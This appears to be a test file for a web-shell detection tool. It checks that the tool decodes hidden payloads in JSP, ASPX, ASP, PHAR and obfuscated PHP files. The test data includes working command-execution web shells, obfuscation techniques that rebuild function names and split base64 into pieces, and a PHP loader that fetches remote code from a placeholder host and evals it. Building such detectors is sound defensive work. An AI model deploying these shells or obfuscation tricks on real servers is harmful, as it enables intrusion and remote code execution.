    jsp = b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>'
    page = f'<%! static final String P = "{base64.b64encode(jsp).decode()}"; %><% write(P); %>'
    reasons = decode_only(page.encode(), "drop.jsp")
    assert any(r.id == ID_HIDDEN and r.score >= 70 for r in reasons), reasons
    aspx = b'<%@ Page Language="C#" %><script runat="server">void Page_Load() { System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); }</script>'
    b64 = base64.b64encode(aspx).decode()
    glued = " +\n ".join(f'"{b64[i : i + 30]}"' for i in range(0, len(b64), 30))
    host = f'<%@ Page Language="C#" %><script runat="server">static string K = {glued};</script>'
    reasons = decode_only(host.encode(), "drop.aspx")
    assert any(r.id == ID_HIDDEN and r.score >= 70 and "joined pieces" in r.description for r in reasons)
    asp = b'<% Set s = CreateObject("WScript.Shell") : s.Run Request("c") %>'
    reasons = decode_only(f'<% Const P = "{base64.b64encode(asp).decode()}" %>'.encode(), "drop.asp")
    assert any(r.id == ID_HIDDEN and r.score >= 70 for r in reasons), reasons
    # a static notice kept the same way is no finding
    notice = b'<%@ page contentType="text/html" %><h1>Back soon</h1>'
    page = f'<%! static final String N = "{base64.b64encode(notice).decode()}"; %>'
    assert decode_only(page.encode(), "maint.jsp") == []


# --- PHAR archives ---------------------------------------------------------------------------


def _phar(stub: bytes, files: list[tuple[bytes, bytes, int]]) -> bytes:
    """A native-format PHAR: ``stub``, the manifest, each entry (flags 0, 0x1000 deflate, 0x2000
    bzip2), a signature trailer."""
    import bz2
    import struct

    bodies = []
    entries = b""
    for name, content, flags in files:
        body = deflate(content) if flags & 0x1000 else bz2.compress(content) if flags & 0x2000 else content
        bodies.append(body)
        entries += struct.pack("<I", len(name)) + name
        entries += struct.pack("<IIIIII", len(content), 0, len(body), zlib.crc32(content), 0o644 | flags, 0)
    manifest = struct.pack("<IHII", len(files), 0x11, 0x10000, 0) + struct.pack("<I", 0) + entries
    return stub + struct.pack("<I", len(manifest)) + manifest + b"".join(bodies) + b"\0" * 20 + b"GBMB"


SELF_STUB = b'<?php include "phar://" . basename(__FILE__) . "/x"; __HALT_COMPILER(); ?>'


@pytest.mark.parametrize("flags", [0, 0x1000, 0x2000])
def test_a_php_file_that_is_a_phar_has_its_entries_judged(flags: int) -> None:
    from webhunt.detect import phar

    data = _phar(SELF_STUB, [(b"x", b"<?php " + SHELL, flags)])
    (entry,) = phar.entries(data)
    assert entry.name == "x" and entry.data == b"<?php " + SHELL
    (r,) = decode_only(data, "cache.php")
    assert r.id == ID_HIDDEN and r.score >= 70 and "phar entry" in r.description


def test_a_phar_of_harmless_code_and_broken_archives_give_nothing() -> None:
    from webhunt.detect import phar

    tool = _phar(
        b"<?php Phar::mapPhar('t.phar'); require 'phar://t.phar/run.php'; __HALT_COMPILER(); ?>\n",
        [(b"run.php", b"<?php echo 'usage: t <file>', PHP_EOL;", 0x1000)],
    )
    assert decode_only(tool, "t.phar") == []
    good = _phar(SELF_STUB, [(b"x", b"<?php " + SHELL, 0x1000)])
    cut = len(SELF_STUB)
    for broken in (
        good[: cut + 10],  # manifest cut short
        good[:cut] + b"\xff\xff\xff\x7f" + good[cut + 4 :],  # manifest length past the end
        good[:cut] + good[cut : cut + 4] + b"\xff\xff\xff\xff" + good[cut + 8 :],  # absurd entry count
        SELF_STUB + b"not an archive at all",
    ):
        assert phar.entries(broken) == [] or all(e.data != b"<?php " + SHELL for e in phar.entries(broken))
        assert all(not r.id.startswith("WH-ENGINE") for r in decode_only(broken, "cache.php"))
    # a bomb: a small deflated body claiming a huge size is cut at the byte budget
    bomb = _phar(SELF_STUB, [(b"x", b"<?php //" + b"A" * 2_000_000, 0x1000)])
    (entry,) = phar.entries(bomb, max_bytes=4096)
    assert len(entry.data) <= 4096


def test_names_rebuilt_through_variable_calls_reach_the_evaluated_payload() -> None:
    """(sweep 55) the junk-stripping replacer is itself rebuilt (``$r = str_replace('K', '', ...)``)
    and every later name comes out of ``$r(...)``: no decoder or evaluator name is written out, so
    the PHP interpretation runs for variable calls with literal arguments beside a rebuilding call."""
    payload = base64.b64encode(SHELL).decode()
    page = (
        "<?php\n$r = str_replace('K', '', 'sKtKr_KrKeKpKlKaKcKe');\n"
        "$d = $r('J', '', 'bJaJsJe6J4J_JdJeJcJoJdJe');\n"
        "$c = $r('V', '', 'cVrVeVaVtVeV_VfVuVnVcVtViVoVn');\n"
        f"$f = $c('', $d('{payload}'));\n$f();\n"
    ).encode()
    (r,) = [x for x in decode_only(page, "x.php") if x.id == ID_EVALUATED]
    assert r.score >= 70


@pytest.mark.parametrize(
    ("pattern", "subject", "expected"),
    [
        (b"/\\s+/", b"ba se 6 4_ de co de", b"base64_decode"),
        (b"#[^a-z]#", b"a1s2s3e4r5t", b"assert"),
        (b"~[#%]~i", b"s#y%s#t%e#m", b"system"),
        (b"/x/", b"pxrxixnxt", b"print"),
    ],
)
def test_simple_regex_replacements_fold_on_constants(pattern: bytes, subject: bytes, expected: bytes) -> None:
    assert fold_call("preg_replace", [pattern, b"", subject], Budget()) == expected
    assert fold_call("preg_filter", [pattern, b"", subject], Budget()) == expected


@pytest.mark.parametrize(
    ("pattern", "repl", "subject"),
    [
        (b"/(a)|b/", b"", b"ab"),  # groups and alternation
        (b"/a/e", b"", b"a"),  # the evaluating modifier
        (b"/\\s+/x", b"", b"a b"),  # extended mode
        (b"/a*a*b/", b"", b"a" * 30),  # two unbounded repeats: could backtrack
        (b"/a/", b"$0", b"a"),  # references in the replacement
        (b"/(?:a)+/", b"", b"a"),
        (b"no delimiters", b"", b"a"),
    ],
)
def test_other_regex_replacements_are_not_folded(pattern: bytes, repl: bytes, subject: bytes) -> None:
    assert fold_call("preg_replace", [pattern, repl, subject], Budget()) is None


def test_preg_filter_without_a_match_is_null_and_not_folded() -> None:
    assert fold_call("preg_filter", [b"/z/", b"", b"abc"], Budget()) is None
    assert fold_call("preg_replace", [b"/z/", b"", b"abc"], Budget()) == b"abc"


# --- Base64 cut into pieces appended statement by statement --------------------------------------


def _pieces(blob: str, size: int, form: str) -> str:
    return "".join(form % blob[i : i + size] for i in range(0, len(blob), size))


def test_pieces_appended_in_a_try_block_are_joined_and_decoded_twice() -> None:
    loader = b"<?php\n$ch = curl_init('http://x.example.invalid/p.txt');\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n"
    loader += b"$p = curl_exec($ch);\neval('?>' . $p);\n"
    blob = base64.b64encode(base64.b64encode(loader)).decode()
    data = (
        '<?php\ntry {\n    $z = "";\n'
        + _pieces(blob, 8, '    $z .= "%s";\n')
        + "    $fn = 'base64_decode';\n"
        "    $code = $fn($fn($z));\n    $out = '';\n"
        "    foreach (token_get_all($code) as $t) { $out .= is_array($t) ? $t[1] : $t; }\n"
        "    eval($out);\n} catch (\\Throwable $e) {\n    echo 'x';\n}\n"
    ).encode()
    reasons = decode_only(data, "x.php")
    assert any(r.id == ID_HIDDEN and r.score >= 70 for r in reasons), [(r.id, r.description) for r in reasons]


@pytest.mark.parametrize("form", ["$z .= '%s';\n", '$z[] = "%s";\n'])
def test_pieces_of_a_file_too_large_to_interpret_are_joined_and_decoded(form: str) -> None:
    page = (
        b"<?php echo shell_exec($_POST['q']); ?>\n" + b"<div class='row'><span>listing</span></div>\n" * 1500
    )
    blob = base64.b64encode(page).decode()
    data = ("<?php\n$z = 'PD9w';\n" + _pieces(blob[4:], 12, form)).encode()
    data += b"$d = 'base64_decode';\neval('?>' . $d(is_array($z) ? implode('', $z) : $z));\n"
    layer = DecodeLayer()
    assert len(data) > layer.max_php_bytes
    reasons = decode_only(data, "big.php", layer)
    (r,) = [r for r in reasons if r.id == ID_HIDDEN]
    assert "appended pieces -> base64_decode" in r.description and r.score >= 70


def test_appended_pieces_that_are_not_code_or_not_base64_give_nothing() -> None:
    image = base64.b64encode(bytes(range(256)) * 8).decode()
    data = ("<?php\n$logo = '';\n" + _pieces(image, 64, "$logo .= '%s';\n") + "echo $logo;\n").encode()
    html = "".join(f"$html .= '<li>{i}</li>';\n" for i in range(40))
    data += ("$html = '';\n" + html + "echo $html;\n").encode()
    layer = DecodeLayer()
    payloads = layer.payloads(data, context_for("logo.php", len(data)), Budget(max_bytes=1 << 20))
    assert not [p for p in payloads if p.chain and p.chain[0] == "appended pieces"]


def test_appended_pieces_of_many_variables_stay_fast() -> None:
    data = b"<?php\n" + b"".join(b'$v%d .= "QUFBQUFB";\n' % (i % 3) for i in range(20000))
    budget = Budget(max_bytes=8 << 20, seconds=5.0)
    layer = DecodeLayer()
    assert layer.payloads(data, context_for("m.php", len(data)), budget) == []
    assert not budget.expired()
